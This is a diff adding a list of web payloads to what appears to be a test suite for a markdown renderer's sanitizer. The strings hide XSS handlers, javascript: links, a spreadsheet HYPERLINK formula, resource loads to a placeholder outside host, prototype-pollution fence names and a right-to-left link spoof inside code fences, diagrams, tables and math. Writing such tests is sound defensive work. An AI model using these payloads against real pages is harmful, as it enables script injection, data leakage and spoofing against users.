@@ -115,3 +115,21 @@ const markdown = [
 ];
 
 export const PAYLOADS = [...elements, ...brokenOut, ...markdown];
+
+/** The same in what is drawn in ways of its own: languages of code, tables, tasks and formulas. */
+export const DRAWN_PAYLOADS = [
+  `\`\`\`"><img src=x onerror=${RUN}>\nx = 1\n\`\`\``,
+  `\`\`\`python" onmouseover="${RUN}\ndef x(): return "<img src=x onerror=${RUN}>"\n\`\`\``,
+  `\`\`\`html\n<script>${RUN}</script><img src="${AWAY}">\n\`\`\``,
+  `\`\`\`svg\n<svg onload=${RUN}><image href="${AWAY}"/></svg>\n\`\`\``,
+  `\`\`\`css\n@import url("${AWAY}"); * { background: url(${AWAY}) }\n\`\`\``,
+  `\`\`\`javascript\n${RUN}; import("${AWAY}")\n\`\`\``,
+  `\`\`\`__proto__\nx\n\`\`\``,
+  `\`\`\`constructor\nx\n\`\`\``,
+  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]-->B; click A "javascript:${RUN}"\n\`\`\``,
+  `| =HYPERLINK("${AWAY}") | <img src=x onerror=${RUN}> |\n| --- | --- |\n| [x](javascript:${RUN}) | ![x](${AWAY}) |`,
+  `| $\\href{javascript:${RUN}}{x}$ |\n| --- |\n| $\\includegraphics{${AWAY}}$ |`,
+  `- [x] <img src=x onerror=${RUN}> [y](javascript:${RUN})`,
+  `$$\\html{<img src=x onerror=${RUN}>} \\class{x" onload="${RUN}}{y} \\style{background:url(${AWAY})}{z}$$`,
+  `\u202E[gro.elpmaxe](${AWAY})\u202C`,
+];
